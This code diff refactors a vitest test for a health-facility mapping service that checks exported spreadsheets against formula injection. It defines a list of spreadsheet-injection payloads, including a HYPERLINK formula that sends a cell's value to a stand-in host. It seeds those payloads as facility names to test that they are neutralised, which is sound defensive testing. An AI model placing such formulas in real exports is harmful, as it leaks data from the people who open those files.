@@ -3,7 +3,8 @@
 // templates; a new puskesmas must have a kode of the documented form, so a formula cannot become a kode at all.
 import { describe, expect, it } from 'vitest';
 import { readZipDirectory, inflateEntry } from '@peta/server-core';
-import { useApp } from './helper.ts';
+import { seedPuskesmas } from '@peta/server-core/testing';
+import { clearMeetingsAndRollout, useApp } from './helper.ts';
 import { loadTinyValues } from './fixtures/tiny-values.ts';
 
 const HOSTILE = ['=HYPERLINK("http://contoh.test/?"&A3,"klik")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
@@ -11,21 +12,12 @@ const HOSTILE = ['=HYPERLINK("http://contoh.test/?"&A3,"klik")', '+1+1', '-2+3',
 const ctx = useApp(async (database) => {
   await loadTinyValues(database);
   const { pool } = database;
-  await pool.query(`delete from ilp_wave_member; delete from ilp_wave; delete from ilp_stage; delete from readiness_answer;
-    delete from pustu; delete from posyandu; delete from puskesmas_wilayah; delete from puskesmas; delete from rollout_event`);
+  await clearMeetingsAndRollout(database);
   // Names as a hostile user (or data from before the kode rule) could have left them.
-  const {
-    rows: [ev],
-  } = await pool.query(`insert into rollout_event (oleh, kind, note) values ('uji', 'seed', 'fixture') returning id`);
-  await pool.query(
-    `insert into puskesmas (kode, nama, kabupaten_kode, sumber) values ('1010001', $1, '99.01', 'uji'), ('@SUM(1)', $2, '99.01', 'uji')`,
-    [HOSTILE[0], HOSTILE[3]],
-  );
-  await pool.query(
-    `insert into puskesmas_wilayah (puskesmas_kode, desa_kode, valid_from, confirmed, event_id) values
-    ('1010001', '99.01.01.2001', '2025-01-01', true, $1), ('@SUM(1)', '99.01.01.2002', '2025-01-01', true, $1)`,
-    [ev.id],
-  );
+  await seedPuskesmas(database, [
+    { kode: '1010001', nama: HOSTILE[0]!, desa: ['99.01.01.2001'] },
+    { kode: '@SUM(1)', nama: HOSTILE[3]!, desa: ['99.01.01.2002'] },
+  ]);
   for (const [kode, nama] of [
     ['99.01.01', HOSTILE[1]],
     ['99.01.01.2001', HOSTILE[2]],
